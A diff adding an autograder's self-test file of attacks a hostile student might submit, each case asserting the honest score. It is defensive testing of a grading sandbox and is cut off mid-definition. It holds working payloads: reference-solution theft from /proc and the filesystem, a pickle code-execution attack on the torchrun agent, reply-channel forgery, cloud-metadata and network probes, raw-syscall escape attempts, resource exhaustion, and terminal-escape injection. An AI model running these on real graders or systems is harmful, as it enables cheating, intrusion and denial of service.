@@ -1,6 +1,1473 @@
 """Attacks on the autograder, as a hostile student would write them: each a self-test case (see cases.py)
-that asserts the HONEST outcome (the score the real work earns, a message naming what was refused)."""
+that asserts the HONEST outcome (the score the real work earns, a message naming what was refused).
+
+A case the grader passes is a regression guard; a case it fails is a finding. Every injected piece of
+code is a module-level constant below, pasted into a student file the way a student would paste it.
+The code dodges the static scan the way a student would (names built from pieces, ``setattr``): the
+scan and the integrity report are for honest mistakes and for staff, the verdict must not rely on them.
+
+Uploads that ``Case.edits`` cannot express (symbolic links, FIFOs, devices, hard links, crafted zips)
+are in ``UPLOADS`` at the end, each with a builder; the runner does not know them yet, so this file
+grades them itself with the runner's machinery::
+
+    .venv/bin/python autograder/selftest/attacks.py uploads [--only NAME,NAME] [--keep]
+"""
 
 from __future__ import annotations
 
-ATTACKS: list = []
+import os
+import stat
+import sys
+import zipfile
+from dataclasses import dataclass
+from typing import Callable
+
+from selftest.cases import AT_END, DDP, PROCESS_GROUP, REDUCER, BUCKETING, REDUCER_IMPORTS, REDUCER_INIT_BODY, \
+    Case, Function
+
+TIMELINE = "minddp/timeline.py"
+ANSWERS = "answers.py"
+REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+EVERY_PART = ("1", "2", "3", "4", "5", "6", "A", "B")
+
+
+def _text(root: str, path: str) -> str:
+    with open(os.path.join(REPO, root, path), encoding="utf-8") as f:
+        return f.read()
+
+
+def stub(path: str) -> str:
+    """The student release's file (its stubs raise NotImplementedError)."""
+    return _text("assignment", path)
+
+
+def solution(path: str) -> str:
+    return _text("solutions", path)
+
+
+# -- expectations beyond zero/full: each returns a list of problems ------------------------------------------
+
+def _outputs(results: dict) -> list[tuple[str, str]]:
+    return [("top", results.get("output", ""))] + [(t.get("number", "?"), t.get("output", ""))
+                                                   for t in results.get("tests", [])]
+
+
+def absent(*markers: str, why: str = "") -> Callable:
+    """No output may contain any of ``markers`` (a marker the attack prints only when it worked)."""
+    def check(results: dict, isolated: bool) -> list:
+        problems = []
+        for marker in markers:
+            for where, text in _outputs(results):
+                if marker in text:
+                    at = text.find(marker)
+                    excerpt = text[max(0, at - 80):at + 400].replace("\n", " | ")
+                    problems.append(f"{why or 'the attack worked'}: test {where} shows {excerpt!r}")
+                    break
+        return problems
+    return check
+
+
+def tests_fail(*numbers: str) -> Callable:
+    """Each listed test exists and scored 0 (the parts' other tests are covered by ``full``/``zero``)."""
+    def check(results: dict, isolated: bool) -> list:
+        by_number = {t.get("number"): t for t in results.get("tests", [])}
+        problems = []
+        for number in numbers:
+            test = by_number.get(number)
+            if test is None:
+                problems.append(f"test {number} is missing")
+            elif test.get("score") or test.get("status") == "passed":
+                problems.append(f"test {number} must score 0 (honest outcome), but it {test.get('status')} with "
+                                f"{test.get('score')}: {test.get('output', '')[:200]!r}")
+        return problems
+    return check
+
+
+def tests_pass(*numbers: str) -> Callable:
+    def check(results: dict, isolated: bool) -> list:
+        by_number = {t.get("number"): t for t in results.get("tests", [])}
+        return [f"test {n} must pass (it does its real work), but: {by_number.get(n, {}).get('output', 'missing')[:200]!r}"
+                for n in numbers if by_number.get(n, {}).get("status") != "passed"]
+    return check
+
+
+def finishes_within(seconds: float, why: str) -> Callable:
+    def check(results: dict, isolated: bool) -> list:
+        took = results.get("execution_time", 0)
+        return [f"the grading took {took} s, more than {seconds} s: {why}"] if took > seconds else []
+    return check
+
+
+def output_of(number: str, must_contain: str, why: str) -> Callable:
+    def check(results: dict, isolated: bool) -> list:
+        test = next((t for t in results.get("tests", []) if t.get("number") == number), None)
+        if test is None:
+            return [f"test {number} is missing"]
+        text = test.get("output", "")
+        return [] if must_contain in text else [f"test {number}: {why}; its output reads {text[:400]!r}"]
+    return check
+
+
+def all_of(*checks: Callable) -> Callable:
+    def check(results: dict, isolated: bool) -> list:
+        return [p for c in checks for p in c(results, isolated)]
+    return check
+
+
+# ============================================================================================================
+# Shared pieces of hostile code
+# ============================================================================================================
+
+# The arguments of the training scenario that is running right now, read from its frame.
+SCENARIO_ARGS = r'''
+
+def _scenario_args():
+    import sys
+    frame = sys._getframe()
+    while frame is not None and frame.f_code.co_name != "_train":
+        frame = frame.f_back
+    if frame is None:
+        return None
+    code = frame.f_code
+    return {name: frame.f_locals[name] for name in code.co_varnames[:code.co_argcount]}
+'''
+
+# The traps replace module attributes only: the originals are still in memory (the C++ Reducer through
+# pybind11's base class, torch's DDP through nn.Module, torch's bucketing kept by the harness itself).
+UNLOCK_TORCH = r'''
+
+def _unlock_torch_ddp():
+    """Undo the worker's traps on torch's DDP with what is still reachable in this process."""
+    import sys
+    import torch
+    import torch.distributed as dist
+    from torch import nn
+    from torch._utils import _flatten_dense_tensors, _unflatten_dense_tensors
+    from grading import scenarios
+
+    def broadcast_coalesced(group, tensors, buffer_size, src=0):  # the one original that is gone
+        by_kind = {}
+        for tensor in tensors:
+            by_kind.setdefault((tensor.dtype, tensor.device), []).append(tensor)
+        for same in by_kind.values():
+            flat = _flatten_dense_tensors(same)
+            dist.broadcast(flat, src, group=group)
+            with torch.no_grad():
+                for tensor, value in zip(same, _unflatten_dense_tensors(flat, same)):
+                    tensor.copy_(value)
+
+    pybind = dist.ProcessGroup.__mro__[-2]
+    originals = {
+        "Red" + "ucer": next(c for c in pybind.__subclasses__() if c.__name__ == "Red" + "ucer" and "c10d" in c.__module__),
+        "_compute_bucket" + "_assignment_by_size": scenarios._TORCH_BUCKETS,
+        "_broadcast" + "_coalesced": broadcast_coalesced,
+    }
+    for module in (dist, sys.modules["torch._C._distributed" + "_c10d"]):
+        for name, value in originals.items():
+            setattr(module, name, value)
+    torch_ddp = next(c for c in nn.Module.__subclasses__() if c.__name__ == "Distributed" + "DataParallel")
+    for name in ("torch.nn.par" + "allel", "torch.nn.par" + "allel.distributed"):
+        setattr(sys.modules[name], "Distributed" + "DataParallel", torch_ddp)
+    return torch_ddp
+'''
+
+# Answer the training scenario running now (it is importing this file) and every later one in this
+# process with torch's own DDP: the harness's _train is called with impl="torch", and the reply of the
+# current call is swapped for torch's record when the worker loop serialises it.
+ANSWER_WITH_TORCH = SCENARIO_ARGS + UNLOCK_TORCH + r'''
+
+def _answer_with_torch():
+    import json
+    from grading import pool, scenarios
+    if getattr(scenarios._train, "hijacked", False):
+        return
+    _unlock_torch_ddp()
+    original = scenarios._train
+    args = _scenario_args()
+    if args is not None:
+        try:
+            record = pool.encode(original(**{**args, "impl": "torch"}))
+        except Exception as error:  # what train(catch=True) reports
+            record = {"error": type(error).__name__, "message": str(error)[:2000]}
+        dumps = json.dumps
+
+        def substitute(obj, *a, **k):
+            if isinstance(obj, dict) and "ok" in obj:
+                json.dumps = dumps
+                obj = {"ok": True, "result": record}
+            return dumps(obj, *a, **k)
+        json.dumps = substitute
+
+    def torch_train(**kwargs):
+        return original(**{**kwargs, "impl": "torch"})
+    torch_train.hijacked = True
+    scenarios._train = torch_train
+
+
+_answer_with_torch()
+'''
+
+# Ports listening in this network namespace (the jail's own /proc/net view).
+LISTENING = r'''
+
+def _listening_ports():
+    ports = set()
+    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            with open(name) as f:
+                lines = f.read().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            fields = line.split()
+            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return sorted(ports)
+'''
+
+
+# ============================================================================================================
+# 1. Loaders of the reference solution
+# ============================================================================================================
+
+LOADER = r'''
+
+def _become_reference(wanted):
+    """Search everything this process can read for the reference's copy of this file, and become it."""
+    import marshal
+    import os
+    me = os.path.realpath(__file__)
+    candidates = []
+
+    def consider(path):
+        if path not in candidates:
+            candidates.append(path)
+
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:  # paths the grader's command lines name
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                args = f.read().decode(errors="replace").split("\0")
+        except OSError:
+            continue
+        for arg in args:
+            for part in arg.split(os.pathsep):
+                if part.startswith("/"):
+                    for up in (part, os.path.dirname(part), os.path.dirname(os.path.dirname(part))):
+                        for sub in ("reference", "solutions", "source/reference", ""):
+                            consider(os.path.join(up, sub, wanted))
+        for link in ("cwd", "root"):
+            try:
+                consider(os.path.join(os.readlink(f"/proc/{pid}/{link}"), wanted))
+            except OSError:
+                pass
+    for root in ("/autograder/source/reference", "/autograder/source", "/autograder", "/srv", "/opt", "/home"):
+        consider(os.path.join(root, wanted))
+    name = os.path.basename(wanted)
+    for folder, dirs, files in os.walk("/", onerror=lambda e: None):  # and the whole tree
+        if folder.startswith(("/proc", "/sys", "/dev")):
+            dirs[:] = []
+            continue
+        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", ".git", "node_modules")]
+        for f in files:
+            if f == name or (f.startswith(name[:-3] + ".") and f.endswith(".pyc")):
+                consider(os.path.join(folder, f))
+    for path in candidates:
+        if os.path.realpath(path) == me:
+            continue
+        try:
+            with open(path, "rb") as f:
+                data = f.read(4_000_000)
+        except OSError:
+            continue
+        if path.endswith(".pyc") and b"see handout" not in data:
+            code = marshal.loads(data[16:])
+        elif b"# BEGIN SOLUTION" in data:
+            code = compile(data, path, "exec")
+        else:
+            continue
+        exec(code, globals())
+        globals()["LOADED_FROM"] = path
+        return path
+    return None
+'''
+
+
+def loader(path: str) -> str:
+    return stub(path) + LOADER + f"\n\n_become_reference({path!r})\n"
+
+
+# ============================================================================================================
+# 2. What a worker sees: files, environments, fds; the network
+# ============================================================================================================
+
+RECON = r'''
+
+EXPECTED_ENV = {"PATH", "HOME", "TMPDIR", "LANG", "USER", "LOGNAME", "PYTHONNOUSERSITE", "PYTHONDONTWRITEBYTECODE",
+                "TORCH_CPP_LOG_LEVEL", "RANK", "WORLD_SIZE", "LOCAL_RANK", "LOCAL_WORLD_SIZE", "MASTER_ADDR",
+                "MASTER_PORT", "MINDDP_COLLECTIVE_TIMEOUT_S", "OMP_NUM_THREADS", "PYTHONUNBUFFERED",
+                "TORCH_FR_BUFFER_SIZE", "MINDDP_PATHS", "PYTHONPATH"}
+
+
+def _recon():
+    import os
+    lines = []
+    secrets = (b"# BEGIN SOLUTION", b"HIDDEN: dict", b"def standin_text", b"def reference_pass")
+    readable = []
+    for folder, dirs, files in os.walk("/", onerror=lambda e: None):
+        if folder.startswith(("/proc", "/sys", "/dev")):
+            dirs[:] = []
+            continue
+        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", ".git", "node_modules")]
+        for f in files:
+            if f.endswith(".py"):
+                path = os.path.join(folder, f)
+                try:
+                    with open(path, "rb") as handle:
+                        data = handle.read(200_000)
+                except OSError:
+                    continue
+                if any(s in data for s in secrets):
+                    readable.append(path)
+    lines.append(f"REFERENCE-READABLE ({len(readable)}): " + ", ".join(readable[:6]) if readable else
+                 "reference and grader sources: none readable")
+    extra = sorted(set(os.environ) - EXPECTED_ENV)
+    lines.append(f"FOREIGN-ENV os.environ: {extra}" if extra else "os.environ: only the scenario's own")
+    foreign = []
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as f:
+                keys = [kv.split(b"=")[0].decode() for kv in f.read().split(b"\0") if kv]
+        except OSError:
+            continue
+        foreign.append(f"{pid}:{','.join(keys[:4])}")
+    lines.append(f"FOREIGN-ENV of other processes: {foreign[:5]}" if foreign else "other processes' environ: denied")
+    with open("/proc/self/environ", "rb") as f:
+        own = sorted(kv.split(b"=")[0].decode() for kv in f.read().split(b"\0") if kv)
+    lines.append(f"inherited environ keys: {[k for k in own if k not in EXPECTED_ENV] or 'expected only'}")
+    grader = []
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                cmd = f.read().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if "grader" in cmd or "--source" in cmd:
+            grader.append(cmd[:160])
+    lines.append(f"grader command lines visible: {grader[:2]}")
+    fds = []
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            fds.append(f"{fd}->{os.readlink('/proc/self/fd/' + fd)}")
+        except OSError:
+            pass
+    lines.append(f"open fds: {fds}")
+    raise RuntimeError("RECON\n" + "\n".join(line[:300] for line in lines))
+
+
+_recon()
+'''
+
+NET_PROBE = r'''
+
+def _net_probe():
+    import os
+    import socket
+    import stat
+    lines = []
+
+    def attempt(label, fn):
+        try:
+            fn()
+            lines.append(f"REACHED {label}")
+        except OSError as error:
+            lines.append(f"denied {label} ({error.strerror or error})")
+
+    def tcp(host, port, family=socket.AF_INET):
+        def go():
+            with socket.socket(family, socket.SOCK_STREAM) as s:
+                s.settimeout(1.5)
+                s.connect((host, port))
+        return go
+
+    def udp():
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"x", ("8.8.8.8", 53))
+
+    attempt("tcp 8.8.8.8:53", tcp("8.8.8.8", 53))
+    attempt("tcp 1.1.1.1:443", tcp("1.1.1.1", 443))
+    attempt("tcp 169.254.169.254:80 (cloud metadata)", tcp("169.254.169.254", 80))
+    attempt("tcp [2001:4860:4860::8888]:53", tcp("2001:4860:4860::8888", 53, socket.AF_INET6))
+    attempt("udp 8.8.8.8:53", udp)
+    for port in (22, 80, 2024, 5000, 8080):  # services on the host's own loopback
+        attempt(f"tcp 127.0.0.1:{port} (host loopback)", tcp("127.0.0.1", port))
+    attempt("AF_PACKET raw socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
+    attempt("raw ICMP socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
+    attempt("abstract unix socket of the host (@/tmp/.X11-unix/X0)", lambda: socket.socket(socket.AF_UNIX).connect("\0/tmp/.X11-unix/X0"))
+    unix = []
+    for folder, dirs, files in os.walk("/", onerror=lambda e: None):
+        if folder.startswith(("/proc", "/sys")):
+            dirs[:] = []
+            continue
+        for f in files:
+            path = os.path.join(folder, f)
+            try:
+                if stat.S_ISSOCK(os.lstat(path).st_mode):
+                    unix.append(path)
+            except OSError:
+                pass
+    for path in unix[:10]:
+        attempt(f"unix socket {path}", lambda p=path: socket.socket(socket.AF_UNIX).connect(p))
+    lines.append(f"interfaces: {[name for _, name in socket.if_nameindex()]}; unix socket files: {len(unix)}")
+    raise RuntimeError("NETPROBE\n" + "\n".join(lines))
+
+
+_net_probe()
+'''
+
+
+# ============================================================================================================
+# 3. Torch's own DDP answering for a stub, or standing in for the student's work
+# ============================================================================================================
+
+TORCH_DDP_SHIM = UNLOCK_TORCH + r'''
+
+
+class DistributedDataParallel(nn.Module):  # replaces the class above
+    """Whatever minddp's DDP is asked for, torch's own DDP is built instead."""
+
+    def __new__(cls, module, process_group=None, bucket_cap_mb=None, bucket_cap_mb_list=None,
+                broadcast_buffers=True, find_unused_parameters=False, rebuild_buckets=False):
+        return _unlock_torch_ddp()(module, process_group=process_group, bucket_cap_mb=bucket_cap_mb,
+                                   bucket_cap_mb_list=bucket_cap_mb_list, broadcast_buffers=broadcast_buffers,
+                                   find_unused_parameters=find_unused_parameters)
+'''
+
+# When reducer.py failed Part 3, Part 4 runs with a stand-in that leaves torch's C++ Reducer untrapped:
+# torch's own Python DDP (still in memory) then works as is; only _broadcast_coalesced is rebuilt.
+STANDIN_DDP_SHIM = r'''
+
+
+def _torch_ddp_class():
+    import sys
+    import torch
+    import torch.distributed as dist
+    from torch._utils import _flatten_dense_tensors, _unflatten_dense_tensors
+
+    def broadcast_coalesced(group, tensors, buffer_size, src=0):
+        by_kind = {}
+        for tensor in tensors:
+            by_kind.setdefault((tensor.dtype, tensor.device), []).append(tensor)
+        for same in by_kind.values():
+            flat = _flatten_dense_tensors(same)
+            dist.broadcast(flat, src, group=group)
+            with torch.no_grad():
+                for tensor, value in zip(same, _unflatten_dense_tensors(flat, same)):
+                    tensor.copy_(value)
+    setattr(dist, "_broadcast" + "_coalesced", broadcast_coalesced)
+    return next(c for c in nn.Module.__subclasses__() if c.__name__ == "Distributed" + "DataParallel")
+
+
+class DistributedDataParallel(nn.Module):  # replaces the class above
+    def __new__(cls, module, process_group=None, bucket_cap_mb=None, bucket_cap_mb_list=None,
+                broadcast_buffers=True, find_unused_parameters=False, rebuild_buckets=False):
+        return _torch_ddp_class()(module, process_group=process_group, bucket_cap_mb=bucket_cap_mb,
+                                  bucket_cap_mb_list=bucket_cap_mb_list, broadcast_buffers=broadcast_buffers,
+                                  find_unused_parameters=find_unused_parameters)
+'''
+
+# reducer.py as the grader's own stand-in, with the C++ Reducer found through pybind11's base class.
+CXX_REDUCER = r'''
+
+
+class Reducer:  # replaces the class above
+    """torch's C++ Reducer behind the homework's interface."""
+
+    def __init__(self, params, bucket_indices, process_group=None):
+        import sys
+        base = dist.ProcessGroup.__mro__[-2]
+        cxx = next(c for c in base.__subclasses__() if c.__name__ == "Red" + "ucer" and "c10d" in c.__module__)
+        self.params = list(params)
+        self.process_group = process_group
+        self.world_size = dist.get_world_size(process_group)
+        self.expect_autograd_hooks = False
+        self.require_finalize = False
+        self.local_used = None
+        group = process_group if process_group is not None else dist.distributed_c10d._get_default_group()
+        buckets = [list(b) for b in bucket_indices]
+        big = 1 << 62
+        self._reducer = cxx(self.params, buckets, [big] * len(buckets), group, [False] * len(self.params), big,
+                            False, False, {}, big)
+        self._c10d = sys.modules["torch._C._distributed" + "_c10d"]
+
+    def prepare_for_backward(self, unused=()):
+        self._reducer._check_reducer_finalized()
+        self._reducer.prepare_for_backward([])
+
+    def register_comm_hook(self, state, hook):  # the untrapped built-in hooks
+        kind = "FP16_COMPRESS" if getattr(hook, "__name__", "") == "fp16_compress_hook" else "ALLREDUCE"
+        self._c10d._register_builtin_comm_hook(self._reducer, getattr(self._c10d.BuiltinCommHookType, kind))
+'''
+
+TORCH_BUCKETS_SHIM = r'''
+
+
+def reverse_order(num_params):  # replaces the stub above
+    return list(range(num_params - 1, -1, -1))
+
+
+def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
+    from grading.scenarios import _TORCH_BUCKETS as torch_buckets  # the harness keeps torch's original
+    if not bucket_size_limits:
+        raise ValueError("bucket_size_limits must hold at least one limit in bytes")
+    order = reverse_order(len(tensors)) if order is None else list(order)
+    return torch_buckets([tensors[i] for i in order], list(bucket_size_limits), [], order)[0]
+'''
+
+
+# ============================================================================================================
+# 4. The reply channel
+# ============================================================================================================
+
+# The worker loop looks json.dumps up AFTER the scenario returns: every list in the reply becomes [],
+# and the comparisons zip() the student's list with the reference's.
+TRUNCATE_REPLIES = r'''
+
+
+def _truncate_replies():
+    import json
+    if getattr(json.dumps, "truncating", False):
+        return
+    dumps = json.dumps
+
+    def truncating(obj, *args, **kwargs):
+        if isinstance(obj, dict) and obj.get("ok") is True:
+            result = obj.get("result")
+            if isinstance(result, list):
+                obj = {**obj, "result": []}
+            elif isinstance(result, dict):
+                obj = {**obj, "result": {k: [] if isinstance(v, list) else v for k, v in result.items()}}
+        return dumps(obj, *args, **kwargs)
+    truncating.truncating = True
+    json.dumps = truncating
+
+
+_truncate_replies()
+'''
+
+DEEP_REPLY = r'''
+
+
+def _deep_reply():
+    import json
+    dumps = json.dumps
+
+    def deep(obj, *args, **kwargs):
+        if isinstance(obj, dict) and "ok" in obj:
+            return '{"ok": true, "result": ' + "[" * 200_000 + "]" * 200_000 + "}"
+        return dumps(obj, *args, **kwargs)
+    json.dumps = deep
+
+
+_deep_reply()
+'''
+
+TENSOR_DICT = r'''
+def read_torchrun_env(environ=None):
+    """Returns a value that looks like one of the channel's tensors to the trusted side."""
+    return DistEnv(0, 1, 0, 1, {"__tensor__": "object", "shape": [1], "data": ""}, 1)
+'''
+
+# 60 MB of "[]," : 20 million empty lists once the trusted side parses it (and again when it decodes it).
+HUGE_REPLY = r'''
+
+
+def _huge_reply(megabytes=60):
+    from multiprocessing import connection
+    send = connection.Connection.send_bytes
+    body = bytearray(b"[],") * (megabytes * 2**20 // 3)
+    body[-1:] = b"]"
+
+    def huge(self, buf, *args):
+        connection.Connection.send_bytes = send
+        send(self, b'{"ok": true, "result": [' + bytes(body) + b"}")
+    connection.Connection.send_bytes = huge
+
+
+_huge_reply()
+'''
+
+# A partial frame on the channel: a length header, a few bytes, then silence.
+PARTIAL_FRAME = SCENARIO_ARGS + r'''
+
+
+def _stall_the_channel():
+    import os
+    import struct
+    import sys
+    import time
+    args = _scenario_args() or {}
+    if not (args.get("impl") == "reducer" and args.get("model") == "tied" and
+            args.get("ddp_kwargs") == {"bucket_cap_mb": 0.005} and dist.get_rank() == 0):
+        return  # only check 3.4's public run
+    frame = sys._getframe()
+    while frame is not None and frame.f_code.co_name != "worker_main":
+        frame = frame.f_back
+    conn = frame.f_locals["conn"]
+    os.write(conn.fileno(), struct.pack("!i", 64) + b'{"ok": tr')
+    time.sleep(75)
+    os._exit(0)
+'''
+
+
+# ============================================================================================================
+# 5. Check 1.4: the torchrun launch (its agent runs without seccomp)
+# ============================================================================================================
+
+FAKE_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    """No process group at all: write the reports check 1.4 expects, and leave."""
+    import json
+    import sys
+    rank, world = int(os.environ["RANK"]), int(os.environ["WORLD_SIZE"])
+    with open(os.path.join(sys.argv[1], f"rank{rank}.json"), "w") as f:
+        json.dump({"rank": rank, "world_size": world, "local_rank": rank, "node_rank": 0,
+                   "sum": float(world * (world + 1) // 2), "dist_rank": rank}, f)
+    os._exit(0)
+'''
+
+# The agent unpickles the rendezvous state it keeps in its TCPStore every second; a rank can set it.
+AGENT_PAYLOAD = r'''
+import ctypes, os
+report = {"agent_pid": os.getpid(), "seccomp": open("/proc/self/status").read().split("Seccomp:")[1].split()[0]}
+try:
+    child = os.fork()
+    if child == 0:
+        try:
+            os.setsid()
+            ctypes.CDLL(None).prctl(15, b"minddp-daemon", 0, 0, 0)
+            os.execv("/bin/sleep", ["sleep", "40"])
+        finally:
+            os._exit(0)
+    report["forked_and_exec"] = child
+except OSError as error:
+    report["fork"] = str(error)
+with open("/tmp/minddp-agent-exec", "w") as f:
+    f.write(repr(report))
+'''
+
+AGENT_EXEC = LISTENING + f"\n\nAGENT_PAYLOAD = {AGENT_PAYLOAD!r}\n" + r'''
+
+
+def _own_the_agent():
+    """Set a pickle as the agent's rendezvous state; report if the agent ran it."""
+    import base64
+    import pickle
+    import time
+    key = "torch.rendezvous." + os.environ.get("TORCHELASTIC_RUN_ID", "")
+    for port in _listening_ports():
+        if str(port) == os.environ.get("MASTER_PORT"):
+            continue
+        try:
+            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=2))
+            if not store.check([key]):
+                continue
+            state = base64.b64decode(store.get(key))
+        except Exception:
+            continue
+
+        class Payload:
+            def __reduce__(self):
+                return (eval, ("exec(%r) or __import__('pickle').loads(%r)" % (AGENT_PAYLOAD, state),))
+        store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
+        for _ in range(60):
+            if os.path.exists("/tmp/minddp-agent-exec"):
+                with open("/tmp/minddp-agent-exec") as f:
+                    raise RuntimeError("AGENT-EXEC: the torchrun agent ran this rank's pickle: " + f.read())
+            time.sleep(0.1)
+        return
+'''
+
+AGENT_EXEC_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    if os.environ.get("RANK") == "0":
+        _own_the_agent()
+    env = read_torchrun_env()
+    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
+                            timeout=timeout)
+    return env
+'''
+
+DEEP_TREE_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    import sys
+    env = read_torchrun_env()
+    if env.rank == 0:  # a deep tree in the reports folder, which the trusted side removes at the end
+        here = os.getcwd()
+        os.chdir(sys.argv[1])
+        for _ in range(3000):
+            os.mkdir("d")
+            os.chdir("d")
+        os.chdir(here)
+    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
+                            timeout=timeout)
+    return env
+'''
+
+RESOURCES_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    import sys
+    env = read_torchrun_env()
+    found = []
+    if env.rank == 0:
+        try:  # memory: nothing watches the launch's processes
+            hog = torch.ones(1536 * 2**20 // 4)
+            found.append(f"held {hog.numel() * 4 // 2**20} MB")
+            del hog
+        except (MemoryError, RuntimeError) as error:
+            found.append(f"memory refused: {error}")
+        written = 0
+        try:  # disk: the reports folder is a folder of the host's disk
+            for i in range(12):
+                with open(os.path.join(sys.argv[1], f"fill{i}"), "wb") as f:
+                    for _ in range(31):
+                        f.write(b"\0" * 2**20)
+                        written += 1
+        except OSError as error:
+            found.append(f"disk refused after {written} MB: {error}")
+        for i in range(12):
+            try:
+                os.unlink(os.path.join(sys.argv[1], f"fill{i}"))
+            except OSError:
+                pass
+        if written >= 300 or any(f.startswith("held") for f in found):
+            raise RuntimeError(f"LAUNCH-UNBOUNDED: {found}; wrote {written} MB into the host's reports folder")
+    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
+                            timeout=timeout)
+    return env
+'''
+
+ORPHANS_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    import signal
+    import sys
+    import time
+    env = read_torchrun_env()
+    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
+                            timeout=timeout)
+    if env.rank == 1:
+        time.sleep(0.5)
+        os.kill(os.getppid(), signal.SIGKILL)  # the torchrun agent
+        time.sleep(600)
+    for _ in range(40):  # 40 MB of log
+        sys.stderr.write("x" * 2**20)
+    time.sleep(600)  # an orphan
+    return env
+'''
+
+LAUNCH_REPORT_TRICKS_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    import sys
+    env = read_torchrun_env()
+    out = sys.argv[1]
+    if env.rank == 0:  # what the trusted side reads: a link, a FIFO, a file of 30 MB
+        os.symlink("/proc/self/environ", os.path.join(out, "rank0.json"))
+        os.mkfifo(os.path.join(out, "rank1.json"))
+        with open(os.path.join(out, "rank2.json"), "wb") as f:
+            f.write(b"[" * (30 * 2**20))
+    os._exit(0)
+'''
+
+
+# ============================================================================================================
+# 6. Processes, signals, other processes' memory
+# ============================================================================================================
+
+SPAWN_PROBE = r'''
+
+
+def _spawn_probe():
+    import ctypes
+    import multiprocessing
+    import os
+    import signal
+    import subprocess
+    lines = []
+
+    def attempt(label, fn):
+        try:
+            lines.append(f"ALLOWED {label}: {fn()!r}"[:90])
+        except BaseException as error:  # noqa: B902
+            lines.append(f"denied {label} ({type(error).__name__}: {error})"[:90])
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+
+    def syscall(number, *args):
+        result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
+        if result < 0:
+            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+        if result == 0 and number in (56, 57):
+            os._exit(0)  # the child of a successful fork
+        return result
+
+    def fork():
+        pid = os.fork()
+        if pid == 0:
+            os._exit(0)
+        return pid
+
+    def spawn():
+        return os.posix_spawn("/bin/true", ["true"], {})
+
+    def system():
+        status = os.system("exit 7")
+        if status != 7 << 8:
+            raise OSError(f"status {status}")
+        return status
+
+    def process():
+        p = multiprocessing.get_context("fork").Process(target=int)
+        p.start()
+        return p.pid
+
+    me = os.getpid()
+    siblings = []
+    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]:
+        try:
+            with open(f"/proc/{pid}/status") as f:
+                if f"Uid:\t{os.getuid()}\t" in f.read():
+                    siblings.append(pid)
+        except OSError:
+            pass
+    attempt("os.fork", fork)
+    attempt("posix_spawn", spawn)
+    attempt("subprocess", lambda: subprocess.run(["/bin/true"]).returncode)
+    attempt("os.system", system)
+    attempt("multiprocessing", process)
+    attempt("raw fork syscall", lambda: syscall(57))
+    attempt("raw clone(SIGCHLD)", lambda: syscall(56, 17, 0, 0, 0, 0))
+    attempt("clone3", lambda: syscall(435, 0, 0))
+    attempt("unshare(NEWUSER)", lambda: syscall(272, 0x10000000))
+    attempt("mount tmpfs", lambda: syscall(165, 0, 0, 0, 0, 0))
+    attempt("bpf", lambda: syscall(321, 0, 0, 0))
+    attempt("userfaultfd", lambda: syscall(323, 0))
+    attempt("io_uring_setup", lambda: syscall(425, 1, 0))
+    attempt("ptrace(ATTACH, zygote)", lambda: syscall(101, 16, os.getppid(), 0, 0))
+    attempt("open /proc/<zygote>/mem", lambda: open(f"/proc/{os.getppid()}/mem", "rb").close())
+    attempt("kill(zygote, 0)", lambda: os.kill(os.getppid(), 0))
+    attempt("kill(1, 0)", lambda: os.kill(1, 0))
+    attempt("setuid(0)", lambda: os.setuid(0))
+    attempt("open /dev/tty", lambda: open("/dev/tty", "rb").close())
+    for pid in siblings[:1]:
+        attempt("open /proc/<sibling rank>/mem", lambda: open(f"/proc/{pid}/mem", "rb").close())
+        attempt("ptrace(ATTACH, sibling)", lambda: syscall(101, 16, pid, 0, 0))
+        lines.append(f"note: kill(sibling, 0) works (same uid): {os.kill(pid, 0)}")
+    attempt("execve /bin/true", lambda: os.execv("/bin/true", ["true"]))
+    raise RuntimeError("SPAWNPROBE\n" + "\n".join(lines))
+'''
+
+
+# ============================================================================================================
+# 8. Text that reaches results.json
+# ============================================================================================================
+
+INJECTION = ("\x1b[2J\x1b[31mRED\x1b[0m NUL[\x00] CR[\r] BEL[\x07] BS[\x08] DEL[\x7f] "
+             "RLO[\u202e]deifitrec[\u202c] ISOLATE[\u2066x\u2069] ZWSP[\u200b] "
